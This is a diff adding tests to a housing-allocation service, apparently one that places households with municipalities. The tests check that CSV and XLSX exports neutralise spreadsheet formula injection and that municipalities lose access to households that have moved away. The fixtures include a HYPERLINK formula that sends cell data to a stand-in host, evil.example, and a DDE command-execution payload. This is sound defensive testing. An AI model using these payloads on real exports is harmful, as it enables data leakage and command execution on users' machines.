@@ -184,3 +184,78 @@ def test_security_headers_on_api_and_pages(client, auth):
         csp = response.headers["content-security-policy"]
         assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp and "unsafe-inline" not in csp.split(
             "script-src")[1].split(";")[0]
+
+
+# --- exports that travel ----------------------------------------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"open")'
+
+
+def test_exports_carry_no_formula(client, auth, run_jobs):
+    """A refusal reason that a spreadsheet would run is text in both exports: the CSV cell starts
+    with an apostrophe, the XLSX cell is a string (no cell of the workbook is a formula)."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    world = enschede_world(client, auth, run_jobs)
+    job, line = world["job"]["id"], world["single"]["id"]
+    answer = client.put(f"{API}/proposals/{job}/lines/{line}/decision", headers=auth.coa,
+                        json={"decision": "refuse", "reason": EVIL})
+    assert answer.status_code == 200, answer.text
+    other = client.put(f"{API}/proposals/{job}/lines/{world['family']['id']}/decision", headers=auth.coa,
+                       json={"decision": "refuse", "reason": "@SUM(1+1)*cmd|' /C calc'!A0"})
+    assert other.status_code == 200, other.text
+    rows = list(csv.DictReader(io.StringIO(client.get(f"{API}/proposals/{job}/export.csv", headers=auth.coa).text)))
+    reasons = {r["household_id"]: r["decision_reason"] for r in rows}
+    assert reasons == {"h-single": "'" + EVIL, "h-family": "'@SUM(1+1)*cmd|' /C calc'!A0"}
+    for r in rows:
+        for value in r.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value.lstrip("+-").replace(".", "").isdigit(), r
+    book = load_workbook(io.BytesIO(client.get(f"{API}/proposals/{job}/export.xlsx", headers=auth.coa).content))
+    cells = [c for sheet in book.worksheets for r in sheet.iter_rows() for c in r]
+    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
+    assert EVIL in [c.value for c in cells]  # the text itself, readable, not executed
+
+
+def test_the_command_lines_csvs_carry_no_formula(tmp_path, monkeypatch):
+    """proposal.csv (matcher propose) and the simulator's CSVs neutralise such text where they are written."""
+    import csv
+
+    from matcher import write
+    from matcher.simulate.report import _write_csv
+
+    row = {name: "" for name in write.PROPOSAL_HEADER}
+    row.update(household_id="h1", reason=EVIL, km="-1.5")
+    monkeypatch.setattr(write, "proposal_rows", lambda rules, proposal: [row])
+    monkeypatch.setattr(write, "summary", lambda rules, proposal: {})
+    csv_path, _ = write.write_proposal(None, None, tmp_path)
+    (written,) = csv.DictReader(csv_path.open(encoding="utf-8"))
+    assert written["reason"] == "'" + EVIL and written["km"] == "-1.5"
+    path = _write_csv(tmp_path / "weeks.csv", [{"week": 1, "note": "+1+cmd", "delta": -3, "text": "-3"}])
+    (written,) = csv.DictReader(path.open(encoding="utf-8"))
+    assert written == {"week": "1", "note": "'+1+cmd", "delta": "-3", "text": "-3"}
+
+
+# --- a municipality sees a household only while it is coupled, housed or pending there --------
+
+def test_a_household_moved_elsewhere_is_gone_for_the_old_municipality(client, auth, run_jobs):
+    world = enschede_world(client, auth, run_jobs)
+    job, line = world["job"]["id"], world["family"]["id"]
+    assert world["family"]["municipality"] == "GM0153", world["family"]
+    assert client.put(f"{API}/proposals/{job}/lines/{line}/decision", headers=auth.coa,
+                      json={"decision": "accept"}).status_code == 200
+    assert client.get(f"{API}/households/h-family", headers=auth.enschede).status_code == 200
+    assert client.get(f"{API}/proposed-lines/{line}", headers=auth.enschede).status_code == 200
+    moved = household("h-family", 4, permit_date="2023-03-01", adults=2, children=2, state="housed",
+                      municipality="GM0363", coupling_date="2023-07-03", housed_date="2023-07-10")
+    answer = client.post(f"{API}/households/batch", headers=auth.coa, json={"households": [moved]})
+    assert answer.status_code == 200, answer.text
+    assert client.get(f"{API}/households/h-family", headers=auth.enschede).status_code == 404
+    assert client.get(f"{API}/proposed-lines/{line}", headers=auth.enschede).status_code == 404
+    listed = client.get(f"{API}/households", headers=auth.enschede).json()["items"]
+    assert "h-family" not in [h["household_id"] for h in listed]
+    proposed = client.get(f"{API}/proposed-lines", headers=auth.enschede).json()["items"]
+    assert line not in [p["line_id"] for p in proposed]
+    assert client.get(f"{API}/households/h-family", headers=auth.coa).json()["municipality"] == "GM0363"
